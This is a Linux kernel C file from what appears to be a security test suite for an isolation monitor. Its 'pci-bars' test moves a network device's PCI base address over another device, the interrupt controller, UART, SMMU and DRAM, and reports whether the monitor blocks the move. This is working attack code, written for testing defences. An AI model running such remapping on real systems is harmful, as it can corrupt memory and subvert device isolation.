// SPDX-License-Identifier: GPL-2.0
/* PCI configuration: a device answers wherever its base address register says (PCI Local Bus Specification 3.0, 6.2.5). */
#include <linux/pci.h>

#include "attack.h"
#include "copier.h"

/* A function that answers to memory accesses, other than @not. Its first BAR in *@base. */
static struct pci_dev *answering_device(const struct pci_dev *not, u64 *base)
{
	struct pci_dev *device = NULL;
	unsigned int i;
	u16 command;

	for_each_pci_dev(device) {
		pci_read_config_word(device, PCI_COMMAND, &command);
		if (device == not || !(command & PCI_COMMAND_MEMORY))
			continue;
		for (i = 0; i < PCI_STD_NUM_BARS; i++) {
			if (pci_resource_flags(device, i) & IORESOURCE_MEM && pci_resource_len(device, i)) {
				*base = pci_resource_start(device, i);
				return device;
			}
		}
	}
	return NULL;
}

/* Whether @device answers at @base now. */
static bool answers_at(struct pci_dev *device, u32 base)
{
	u32 bar;
	u16 command;

	pci_read_config_dword(device, PCI_BASE_ADDRESS_0, &bar);
	pci_read_config_word(device, PCI_COMMAND, &command);
	return (bar & PCI_BASE_ADDRESS_MEM_MASK) == base && command & PCI_COMMAND_MEMORY;
}

bool pci_moves_to(struct pci_dev *device, u32 base, u16 command)
{
	pci_write_config_dword(device, PCI_BASE_ADDRESS_0, base);
	if (answers_at(device, base))
		return true;
	pci_write_config_word(device, PCI_COMMAND, command & ~PCI_COMMAND_MEMORY);
	pci_write_config_dword(device, PCI_BASE_ADDRESS_0, base);
	pci_write_config_word(device, PCI_COMMAND, command | PCI_COMMAND_MEMORY);
	if (answers_at(device, base))
		return true;
	/* The same byte by byte. */
	pci_write_config_byte(device, PCI_COMMAND, (command | PCI_COMMAND_MEMORY) & 0xff);
	return answers_at(device, base);
}

static void pci_bars(struct report *r, char *arguments)
{
	struct pci_dev *mover, *victim;
	u64 denied = monitor_stat(FLEX_STAT_REGISTERS_DENIED), where;
	u32 targets[5], bar, mask;
	unsigned int i, moved = ~0u;
	u16 command;

	if (copier_open()) {
		failed(r, "there is no device to move: start with attack devices");
		return;
	}
	mover = pci_get_device(0x8086, 0x100e, NULL);
	victim = answering_device(mover, &where);
	if (!mover || !victim) {
		failed(r, "there are no two devices that answer");
		return;
	}
	mask = ~((u32)pci_resource_len(mover, 0) - 1);
	targets[0] = where & mask;
	targets[1] = BOARD_GICD_BASE;
	targets[2] = BOARD_UART0_BASE & mask;
	targets[3] = BOARD_SMMU_BASE & mask;
	targets[4] = BOARD_DRAM_BASE;
	pci_read_config_dword(mover, PCI_BASE_ADDRESS_0, &bar);
	pci_read_config_word(mover, PCI_COMMAND, &command);
	for (i = 0; i < ARRAY_SIZE(targets) && moved == ~0u; i++)
		if (pci_moves_to(mover, targets[i], command))
			moved = i;
	pci_write_config_word(mover, PCI_COMMAND, command & ~PCI_COMMAND_MEMORY);
	pci_write_config_dword(mover, PCI_BASE_ADDRESS_0, bar);
	pci_write_config_word(mover, PCI_COMMAND, command);
	if (moved != ~0u)
		breach(r, "%s answered at %#x, over %s", pci_name(mover), targets[moved], moved ? "what is no PCI window" : pci_name(victim));
	else if (!answers_at(mover, bar & PCI_BASE_ADDRESS_MEM_MASK))
		failed(r, "%s does not go back to where it was", pci_name(mover));
	else
		blocked(r, "%s could be laid neither over %s nor outside the PCI windows (%llu writes denied)", pci_name(mover),
			pci_name(victim), monitor_stat(FLEX_STAT_REGISTERS_DENIED) - denied);
	pci_dev_put(victim);
	pci_dev_put(mover);
}

const struct attack pci_attacks[] = {
	{ "pci-bars", "lay one PCI device over another, and over what is no PCI window", pci_bars },
	{}
};
